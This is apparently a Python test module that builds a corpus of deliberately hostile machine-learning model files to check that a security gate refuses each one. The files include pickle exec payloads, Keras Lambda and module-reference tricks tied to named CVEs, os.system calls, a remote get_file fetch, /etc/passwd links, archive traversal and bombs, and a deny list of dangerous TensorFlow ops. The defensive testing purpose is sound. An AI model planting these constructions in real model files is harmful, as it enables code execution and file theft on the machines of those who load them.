"""Hostile models, at least one for each way past a scanner or a loader that was published, and what refuses each.

Made by hand, by h5py, or by the writers of canaries: nothing here imports a framework, and nothing in it runs.
"""

import io
import json
import pickle
import struct
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import h5py
import numpy as np

from security.gates.artifact import forge
from security.gates.artifact.forge import field, function, layer, meta, node, saved, sequential

Files = dict[str, bytes]
ALL = ["safetensors", "json", "parquet", "keras", "savedmodel"]
TENSORS: dict[str, Any] = {
    "encoder": {"shape": ["items", "width"]},
    "encoder_bias": {"shape": ["width"]},
    "decoder": {"shape": ["width", "items"]},
    "decoder_bias": {"shape": ["items"]},
    "seen_indptr": {"shape": ["users+1"], "kinds": ["I32", "I64"]},
    "seen_indices": {"shape": ["seen"], "kinds": ["I32", "I64"]},
}
SLUICE: dict[str, Any] = {
    "files": ["ids.json", "model.json", "model.safetensors"],
    "tensors": TENSORS,
    "counts": {"users": "ids.json#users", "items": "ids.json#items"},
    "sparse": [{"pointers": "seen_indptr", "indices": "seen_indices", "columns": "items"}],
}
"""What a policy says of the models that Sluice trains."""
DENIED = (
    "ReadFile", "WriteFile", "MatchingFiles", "PrintV2", "PyFunc", "PyFuncStateless", "EagerPyFunc", "TFRecordDataset",
    "TextLineDataset", "FixedLengthRecordDatasetV2", "InitializeTableFromTextFile", "InitializeTableFromTextFileV2",
    "WholeFileReader", "WholeFileReaderV2", "CreateSummaryFileWriter", "DebugIdentityV3", "DebugNanCount",
)  # fmt: skip
WEIGHTS = forge.hdf(np.ones(4, "<f4").tobytes())
PLAIN = forge.safetensors({"w": ("F32", (4,), b"\0" * 16)})


class Runs:
    """What an unpickler would run."""

    def __reduce__(self) -> Any:
        return exec, ("1",)


EVIL = pickle.dumps(Runs())
LAMBDA = layer("Lambda", function={"class_name": "__lambda__", "config": {"code": "4wEAAAA=", "defaults": None}})
WRAPPED = layer("TorchModuleWrapper", module={"class_name": "__bytes__", "config": {"value": "gASV"}})


def called(module: str, name: str, **inputs: Any) -> dict[str, Any]:
    """A `Lambda` that calls a function of some module with what its node gives it."""
    told = {"module": module, "class_name": "function", "config": name, "registered_name": "function"}
    return layer("Lambda", function=told, arguments=inputs) | {"inbound_nodes": [{"args": [], "kwargs": inputs}]}


def functional(*layers: dict[str, Any]) -> dict[str, Any]:
    config = {"name": "f", "trainable": True, "layers": list(layers), "input_layers": [], "output_layers": []}
    told = {"module": "keras.src.models.functional", "class_name": "Functional", "config": config}
    return told | {"registered_name": "Functional"}


def keras(config: Any, **more: bytes) -> Files:
    return {"model.keras": forge.keras(config, WEIGHTS, **more)}


def legacy(config: Any, **attributes: Any) -> Files:
    """A model of the old format, by h5py."""

    def write(file: Any) -> None:
        file.attrs["model_config"] = json.dumps(config)
        for name, value in attributes.items():
            file.attrs[name] = value
        file["w"] = np.ones(3, "<f4")

    return {"model.h5": h5(write)}


def h5(write: Callable[[Any], None], **how: Any) -> bytes:
    made = io.BytesIO()
    with h5py.File(made, "w", **how) as file:
        write(file)
    return made.getvalue()


def saving(**metas: bytes) -> Files:
    return {"saved_model.pb": saved(*metas.values())}


def hidden(op: str) -> Iterator[tuple[str, Files]]:
    """An operation in each place that a graph has for one."""
    sound, named = meta(node("x", "Placeholder")), field(1, op)
    deep = named
    for _ in range(3):
        value = field(1, field(9, deep))  # a list of functions, with attributes of their own
        deep = field(1, "Identity") + field(2, field(1, "f") + field(2, value))
    default = field(4, field(1, "f") + field(3, field(10, named)))
    inner = function("__f", node("x", op))
    yield "graph", saving(a=meta(node("x", op)))
    yield "second", saving(a=sound, b=meta(node("x", op)))
    yield "function", saving(a=meta(node("x", "NoOp"), functions=[inner]))
    yield "attribute", saving(a=meta(node("x", "NoOp", field(10, named))))
    yield "nested", saving(a=meta(node("x", "NoOp", field(10, deep))))
    yield "default", saving(a=meta(node("x", "NoOp"), functions=[function("__f", signature=default)]))
    yield "listed", saving(a=meta(node("x", "NoOp"), more=field(1, field(2, field(1, field(1, op) + default)))))


def zipped(*members: tuple[str, bytes], kind: int = 0, method: int = 0) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name)
            info.external_attr, info.compress_type = kind << 16, method
            archive.writestr(info, data)
    return made.getvalue()


def _models() -> Iterator[tuple[str, str, Files]]:
    dense = layer("Dense", units=1, activation="relu")
    yield "keras lambda", "ART-12", keras(sequential(LAMBDA))
    yield "keras lambda in a sub-model", "ART-12", keras(functional(sequential(functional(LAMBDA))))
    yield "keras lambda in a wrapper", "ART-12", keras(sequential(layer("TimeDistributed", layer=LAMBDA)))
    yield "h5 lambda (CVE-2025-9905)", "ART-12", legacy(sequential(LAMBDA))
    yield "h5 lambda in a sub-model", "ART-12", legacy({"class_name": "Functional", "config": {"layers": [LAMBDA]}})
    loss = {"class_name": "__lambda__", "config": {"code": "4wEAAAA="}}
    yield "keras lambda as a loss", "ART-12", keras(sequential(dense) | {"compile_config": {"loss": loss}})
    yield "h5 lambda as a loss", "ART-12", legacy(sequential(dense), training_config=json.dumps({"loss": loss}))
    evil = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
    yield "module builtins (CVE-2025-1550)", "ART-12", keras(sequential(layer("Dense", units=1, activation=evil)))
    os = {"module": "os", "class_name": "system", "config": "id", "registered_name": None}
    yield "module os (CVE-2025-1550)", "ART-12", keras(sequential(os))
    fetch = called("keras.utils", "get_file", fname="x", origin="http://example.com/x", extract=True)
    yield "get_file again (CVE-2025-8747, CVE-2025-12060)", "ART-12", keras(sequential(fetch))
    unsafe = called("keras.config", "enable_unsafe_deserialization")
    yield "safe mode off by configuration (CVE-2025-9906)", "ART-12", keras(functional(unsafe))
    load = called("keras.models", "load_model", inputs="/tmp/x.keras", safe_mode=False)
    yield "load_model by a node (CVE-2025-9906)", "ART-12", keras(functional(load))
    words = layer("StringLookup", vocabulary="/etc/passwd")
    yield "vocabulary that is a path (CVE-2025-12058)", "ART-12", keras(sequential(words))
    yield "torch wrapper", "ART-12", keras(sequential(WRAPPED))
    yield "h5 torch wrapper", "ART-12", legacy(sequential(WRAPPED))
    yield "SavedModel as a layer", "ART-12", keras(sequential(layer("TFSMLayer", filepath="http://example.com/x")))
    drawn = {"class_name": "function", "module": "keras.visualization", "config": "plot_image_gallery"}
    switch = {"module": "keras.src.ops.core", "class_name": "Switch", "config": {"name": "s"}, "registered_name": None}
    switch["inbound_nodes"] = [{"args": [0, [drawn], "/tmp/x.png"], "kwargs": {}}]
    yield "an operation that calls a function", "ART-12", keras(functional(switch))
    mine = {"registered_name": "Package>Mine"}
    yield "a registered name", "ART-13", keras(sequential(dense | mine))
    yield "an activation by a name", "ART-13", keras(sequential(layer("Dense", units=1, activation="os.system")))
    yield "a loss by a name", "ART-13", keras(sequential(dense) | {"compile_config": {"loss": "evil"}})
    yield "a key that is not known", "ART-13", keras(sequential(dense | {"fn_module": "os"}))
    yield "a pickle in the archive", "ART-10", keras(sequential(dense), **{"assets/data.pkl": EVIL})
    yield "a path out of the archive", "ART-10", keras(sequential(dense), **{"../../evil.py": b"1"})
    three = [(name, b"{}") for name in ("metadata.json", "config.json", "model.weights.h5")]
    yield "a link in the archive", "ART-10", {"model.keras": zipped(*three, kind=0o120777)}
    bomb = zipped(("metadata.json", b"{}"), ("config.json", b" " * (8 << 20)), method=8)
    yield "an archive that unpacks to more", "ART-05", {"model.keras": bomb}
    plain = forge.keras(sequential(dense), WEIGHTS)
    yield "an archive after something", "ART-04", {"model.keras": b"#" + plain}
    yield "an archive before something", "ART-04", {"model.keras": plain + EVIL}
    renamed = plain.replace(b"config.json", b"c0nfig.json", 1)
    yield "an archive of two names", "ART-04", {"model.keras": renamed}
    sealed = bytearray(plain)
    sealed[6] |= 1
    sealed[plain.index(b"PK\1\2") + 8] |= 1
    yield "an archive with a password", "ART-04", {"model.keras": bytes(sealed)}


def _hdf() -> Iterator[tuple[str, str, Files]]:
    def put(name: str, value: Any) -> Callable[[Any], None]:
        def write(file: Any) -> None:
            file["w"] = np.ones(3, "<f4")
            file[name] = value

        return write

    def virtual(file: Any) -> None:
        layout = h5py.VirtualLayout(shape=(4,), dtype="<f4")
        layout[:] = h5py.VirtualSource("/etc/passwd", "w", shape=(4,))
        file.create_virtual_dataset("v", layout)

    def raw(file: Any) -> None:
        file.create_dataset("w", (4,), "<f4", external=[("/etc/passwd", 0, 16)])

    def filtered(file: Any) -> None:
        file.create_dataset("w", data=np.ones(400, "<f4"), compression="gzip")

    def group(file: Any) -> None:
        file["w"] = np.ones(3, "<f4")
        file.create_group("a")["b"] = h5py.SoftLink("/w")

    def alias(file: Any) -> None:
        file["w"] = np.ones(3, "<f4")
        file["again"] = file["w"]

    def loop(file: Any) -> None:
        file.create_group("a")["b"] = file["/"]
        file["w"] = np.ones(3, "<f4")

    def named(*names: str) -> Callable[[Any], None]:
        def write(file: Any) -> None:
            for name in names:
                file.attrs[name] = "{}"
            file["w"] = np.ones(3, "<f4")

        return write

    def two(file: Any) -> None:
        file["a"], file["b"] = np.arange(4, dtype="<f4"), np.arange(4, 8, dtype="<f4")

    twice = h5(named("model_config", "model_confih")).replace(b"model_confih", b"model_config")
    yield "h5 of one attribute twice", "ART-04", {"m.h5": twice}
    behind = h5(named("model_configXj")).replace(b"model_configXj", b"model_config\0j")
    yield "h5 of an attribute behind another", "ART-04", {"m.h5": behind}
    apart = h5(two)
    first, second = (struct.pack("<QQ", apart.index(np.arange(n, n + 4, dtype="<f4").tobytes()), 16) for n in (0, 4))
    yield "h5 datasets that share their bytes", "ART-04", {"m.h5": apart.replace(second, first)}
    yield "h5 soft link", "ART-11", {"m.h5": h5(put("l", h5py.SoftLink("/w")))}
    yield "h5 soft link in a group", "ART-11", {"m.h5": h5(group)}
    yield "h5 link into another file", "ART-11", {"m.h5": h5(put("l", h5py.ExternalLink("/etc/passwd", "/x")))}
    yield "h5 data in another file", "ART-11", {"m.h5": h5(raw)}
    yield "h5 data put together from others", "ART-04", {"m.h5": h5(virtual, libver="latest")}
    yield "h5 filter", "ART-11", {"m.h5": h5(filtered)}
    inside = forge.keras(sequential(layer("Dense", units=1)), h5(put("l", h5py.ExternalLink("/etc/passwd", "/x"))))
    yield "keras with a link into another file", "ART-11", {"m.keras": inside}
    yield "h5 of two names for one thing", "ART-04", {"m.h5": h5(alias)}
    yield "h5 that holds itself", "ART-04", {"m.h5": h5(loop)}
    yield "h5 of objects", "ART-04", {"m.h5": h5(put("r", np.array([("a", 1)], [("s", "S1"), ("n", "<i4")])))}
    yield "h5 that is not finite", "ART-06", {"m.h5": h5(put("n", np.array([1, np.nan], "<f8")))}
    yield "h5 behind another file", "ART-03", {"x.json": b"{}".ljust(512) + h5(put("a", 1))}


def _graphs() -> Iterator[tuple[str, str, Files]]:
    for op in DENIED:
        for where, files in hidden(op):
            yield f"{op} in {where}", "ART-14", files
    yield "SaveV2 in a signature", "ART-15", saving(a=meta(node("x", "SaveV2")))
    save = function("__inference__traced_save_1", node("x", "SaveV2"))
    yield "SaveV2 in a function", "ART-15", saving(a=meta(node("x", "NoOp"), functions=[save]))
    restore = meta(node("x", "NoOp", field(10, field(1, "MergeV2Checkpoints"))))
    yield "MergeV2Checkpoints by an attribute", "ART-15", saving(a=restore)
    text = {"saved_model.pbtxt": b'meta_graphs { graph_def { node { name: "x" op: "WriteFile" } } }'}
    yield "a graph as text", "ART-02", text
    told = {"keras_metadata.pb": field(1, field(4, json.dumps(LAMBDA)))}
    yield "metadata of old Keras", "ART-02", saving(a=meta(node("x", "NoOp"))) | told
    user = field(1, field(4, field(1, "_tf_keras_layer") + field(3, json.dumps(LAMBDA))))
    yield "a layer of old Keras in a graph", "ART-16", saving(a=meta(node("x", "NoOp"), more=field(7, user)))
    asset = field(6, field(2, "../../etc/passwd"))
    yield "an asset by a path", "ART-16", saving(a=meta(node("x", "NoOp"), more=asset))
    empty = field(7, field(1, field(5, b"")))  # the first of the assets: a number that is not written
    yield "the first asset, as an object", "ART-16", saving(a=meta(node("x", "NoOp"), more=empty))
    variant = node("x", "Const", field(8, field(1, 21) + field(15, field(1, "tensorflow::Dataset"))))
    yield "an object as a constant", "ART-16", saving(a=meta(variant))
    yield "an asset", "ART-02", saving(a=meta(node("x", "NoOp"))) | {"assets/words.txt": b"a"}
    yield "a field that nobody knows", "ART-04", saving(a=meta(node("x", "NoOp"), more=field(99, "x")))
    shape = field(2, field(2, field(1, 1 << 40)))
    huge = node("x", "Const", field(8, field(1, 1) + shape + field(5, struct.pack("<f", 1))))
    yield "a constant that unpacks to more", "ART-05", saving(a=meta(huge))
    many = node("x", "Const", field(8, field(1, 3) + field(7, b"\1" * 2_100_000)))
    yield "a constant of more numbers than are read", "ART-05", saving(a=meta(many))
    deep = b""
    for _ in range(200):
        deep = field(10, field(1, "f") + field(2, field(1, "f") + field(2, deep)))
    yield "a graph too deep", "ART-05", saving(a=meta(node("x", "NoOp", deep)))


def _files() -> Iterator[tuple[str, str, Files]]:
    array = io.BytesIO()
    np.save(array, np.array([Runs()], dtype=object), allow_pickle=True)
    torch = zipped(("m/data.pkl", EVIL), ("m/version", b"3"))
    yield "a pickle", "ART-02", {"model.pkl": EVIL}
    yield "a pickle of no known name", "ART-02", {"weights.dat": EVIL}
    yield "a pickle in an array", "ART-02", {"weights.npy": array.getvalue()}
    yield "torch", "ART-02", {"pytorch_model.bin": torch}
    yield "a pickle as JSON", "ART-03", {"ids.json": EVIL}
    yield "a pickle as safetensors", "ART-03", {"model.safetensors": EVIL}
    yield "a pickle as HDF5", "ART-04", {"model.h5": EVIL}
    yield "a pickle as Keras", "ART-04", {"model.keras": EVIL}
    oldest = pickle.dumps(Runs(), 0)
    yield "a pickle of the oldest kind as JSON", "ART-03", {"ids.json": oldest}
    yield "torch as safetensors", "ART-03", {"model.safetensors": torch}
    yield "torch after safetensors", "ART-03", {"model.safetensors": PLAIN + torch}
    held = forge.safetensors({"w": ("U8", (len(torch),), torch)})
    yield "torch in safetensors", "ART-03", {"model.safetensors": held}
    yield "torch after JSON", "ART-03", {"ids.json": b"{}" + torch}
    yield "safetensors with a rest", "ART-04", {"model.safetensors": PLAIN + b"import os"}
    script = PLAIN.replace(b"{", b'{"__metadata__":{"note":"<script>import os; os.system(1)</script>"},', 1)
    yield "safetensors with a script", "ART-04", {"model.safetensors": struct.pack("<Q", len(script) - 24) + script[8:]}
    yield "safetensors with a gap", "ART-04", {"model.safetensors": PLAIN.replace(b"[0,16]", b"[4,20]") + b"\0\0\0\0"}
    two = {"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}
    two["b"] = {"dtype": "U8", "shape": [4], "data_offsets": [2, 6]}
    yield "safetensors that overlap", "ART-04", {"model.safetensors": _head(json.dumps(two)) + b"\0" * 6}
    name = '"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}'
    yield "safetensors of one name twice", "ART-04", {"model.safetensors": _head(f"{{{name},{name}}}") + b"\0"}
    yield "safetensors of a huge header", "ART-05", {"model.safetensors": struct.pack("<Q", 1 << 62) + b"{}"}
    yield "safetensors of an unknown type", "ART-04", {"model.safetensors": PLAIN.replace(b"F32", b"F31")}
    for kind, data in (("F16", b"\0\x7e"), ("BF16", b"\x80\xff"), ("F32", b"\0\0\x80\x7f"), ("F8_E4M3", b"\x7f")):
        made = forge.safetensors({"w": (kind, (1,), data)})
        yield f"not finite in {kind}", "ART-06", {"model.safetensors": made}
    yield "JSON with custom code", "ART-09", {"config.json": b'{"auto_map": {"AutoModel": "evil.Model"}}'}
    yield "JSON with a template", "ART-09", {"tokenizer_config.json": b'{"chat_template": "{{ x.__class__ }}"}'}
    yield "JSON with an object", "ART-09", {"x.json": b'{"a": [{"py/object": "os.system"}]}'}
    yield "a layer as JSON", "ART-09", {"config.json": json.dumps(LAMBDA).encode()}
    yield "JSON of one key twice", "ART-04", {"x.json": b'{"a": 1, "a": 2}'}
    yield "JSON too deep", "ART-05", {"x.json": b"[" * 100_000 + b"]" * 100_000}
    yield "JSON of too many values", "ART-05", {"x.json": b"[" + b"0," * 10_000_001 + b"0]"}
    yield "JSON that is not finite", "ART-04", {"x.json": b'{"a": NaN}'}
    yield "a module", "ART-02", {"modeling.py": b"import os"}
    yield "a hidden file", "ART-01", {".git/evil.py": b"1"}


def _head(text: str) -> bytes:
    return struct.pack("<Q", len(text)) + text.encode()


def corpus() -> dict[str, tuple[str, Files]]:
    """Name -> the rule that refuses it, and its files."""
    return {name: (rule, files) for part in (_models, _hdf, _graphs, _files) for name, rule, files in part()}
